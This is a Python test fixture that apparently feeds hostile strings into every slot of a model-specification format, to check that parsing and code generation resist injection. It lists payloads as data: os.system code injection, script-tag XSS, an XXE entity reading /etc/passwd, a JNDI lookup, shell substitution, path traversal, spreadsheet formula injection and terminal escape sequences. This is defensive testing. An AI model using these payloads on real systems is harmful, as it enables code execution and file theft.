"""Strings that attack a reader, an interpreter, a page or a terminal, and where a spec has room."""

from tests.hostile.texts import escaped

MARK = "pwned"
"""What every attack names, so that its success would be seen."""

ATTACKS = {
    "Python": "'); __import__('os').system('touch pwned')  # ",
    "three quotes": '"""\nimport os; os.system(\'touch pwned\')\n"""',
    "a line break": "a\nimport os\nos.system('touch pwned')",
    "a backslash at the end": "pwned\\",
    "a terminal's title": "\x1b]0;pwned\x07\x1b[2J\x9b8m",
    "a line of Unicode": "a\u2028import pwned\u2029\x85\x0b\x0cb",
    "a direction": "\u202epwned\u2066\u200b",
    "a page": "</text></svg><script>alert('pwned')</script><img src=x onerror=alert(1)>",
    "an entity": "]]>&pwned;<!ENTITY x SYSTEM 'file:///etc/passwd'>",
    "DOT": 'a"];x->pwned [label="',
    "a format": "%s%n{0.__class__}{pwned!r}${jndi:ldap://pwned}{{7*7}}$(touch pwned)`touch pwned`",
    "a path": "../../../../../../tmp/pwned",
    "a table": "=cmd|'/c pwned'!A1\t,\r\n|pwned|",
    "a long text": "pwned" * 1_900,
}

PLACES = {
    "name": "name: @\n",
    "doc": "doc: @\n",
    "help": "params: {n: {default: 4, help: @}}\n",
    "choices": "params: {n: {default: a, choices: [a, @]}}\n",
    "default": "params: {n: @}\n",
    "type": "params: {n: {default: 4, type: @}}\n",
    "parameter": "params: {@: 4}\n",
    "variant": "variants: {@: {}}\n",
    "variant's parameter": "variants: {v: {@: 4}}\n",
    "variant's value": "params: {n: a}\nvariants: {v: {n: @}}\n",
    "input": "inputs: {@: '[B, 3, 8, 8]'}\n",
    "input's sizes": "inputs: {image: @}\n",
    "import": "import: {a: @}\n",
    "import's block": "import: {a: './a.yaml#B'}\nblocks: {@: [ReLU]}\n",
    "import's alias": "import: {@: ./a.yaml}\n",
    "python": "python: {Evil: @}\n",
    "python's name": "python: {@: 'os:system'}\n",
    "block": "blocks: {@: [ReLU]}\n",
    "block's line": "blocks: {B: [@]}\n",
    "init's selector": "init: {@: zeros}\n",
    "init's rule": "init: {conv.weight: @}\n",
    "tie": "tie: {@: conv.weight}\n",
    "tied to": "tie: {conv.weight: @}\n",
    "output": "outputs: {@: conv}\n",
    "output's value": "outputs: {a: @}\n",
    "expect's source": "expect: {source: @, parameters: 112}\n",
    "expect's path": "expect: {shapes: {@: [B, 4]}}\n",
    "expect's shape": "expect: {shapes: {conv: @}}\n",
    "expect's variant": "expect: {@: {parameters: 1}}\n",
    "expect's number": "expect: {parameters: @}\n",
    "allow's code": "allow: {@: a reason}\n",
    "allow's reason": "allow: {ARC411: @}\n",
    "meta": "meta: @\n",
    "meta's key": "meta: {@: {a: [@, @]}}\n",
    "section": "@: 1\n",
    "version": "archc: @\n",
}
"""A line of a spec with room for a string: where it stands, and how the line is written."""

LINES = {
    "child": "@: ReLU",
    "line": "act: @",
    "let": "let @: 1",
    "let's value": "let a: @",
    "condition": "'if True == 1': {@: ReLU}",
    "loop's variable": "'for i in range(2)': {@: ReLU}",
    "assert": "assert: @",
    "declare": "declare: [@]",
    "return": "return: @",
}
"""A line of a model with room for a string."""

ARGUMENTS = {
    "argument": "Conv2d(3, 3, padding=1, padding_mode={})",
    "argument's name": "Conv2d(3, 3, **{{{}: 1}})",
    "comparison": "ReLU if {} == 'a'",
    "list of strings": "Conv2d(len([{}]), 1)",
    "function's argument": "relu -> interpolate(size=4, mode={})",
    "equation": "relu from einsum({}, image)",
    "path": "relu from {}",
}
"""A layer line with room for a string of the language."""


def specs(attack: str) -> dict[str, str]:
    """Return a spec for each place, with the attack there."""
    text = f'"{escaped(attack)}"'
    found = {place: _with_section(line.replace("@", text)) for place, line in PLACES.items()}
    for place, line in LINES.items():
        found[f"model's {place}"] = _with_line(line.replace("@", text))
    for place, line in ARGUMENTS.items():
        quoted = "'" + attack.replace("\\", "\\\\").replace("'", "\\'") + "'"
        found[f"layer's {place}"] = _with_line(f'act: "{escaped(line.format(quoted))}"')
    return found


def _with_section(section: str) -> str:
    """Return a spec with a section in place of its own of that name."""
    key = section.partition(":")[0]
    sections = {
        "archc": "archc: 1\n",
        "name": "name: net\n",
        "inputs": "inputs:\n  image: [B, 3, 8, 8]\n",
    }
    head = "".join(text for name, text in sections.items() if name != key)
    return head + section + "model:\n  conv: Conv2d(4, 3)\n"


def _with_line(line: str) -> str:
    return _with_section("doc: plain\n") + f"  {line}\n"
